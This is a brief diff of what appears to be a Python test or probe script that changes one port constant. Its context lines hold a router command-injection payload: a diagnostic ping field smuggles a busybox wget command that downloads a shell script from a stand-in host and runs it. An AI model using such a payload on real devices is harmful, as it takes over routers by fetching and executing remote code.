@@ -41,7 +41,7 @@ INJECTION = (
     b"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://192.0.2.7/bins/demo.sh"
     b"+-O+/tmp/demo.sh;sh+/tmp/demo.sh`&ipv=0"
 )
-UNEXPECTED_PORT = 9200  # one of the catch-all's
+UNEXPECTED_PORT = 8545  # the catch-all's
 TRY_S = 10.0
 
 
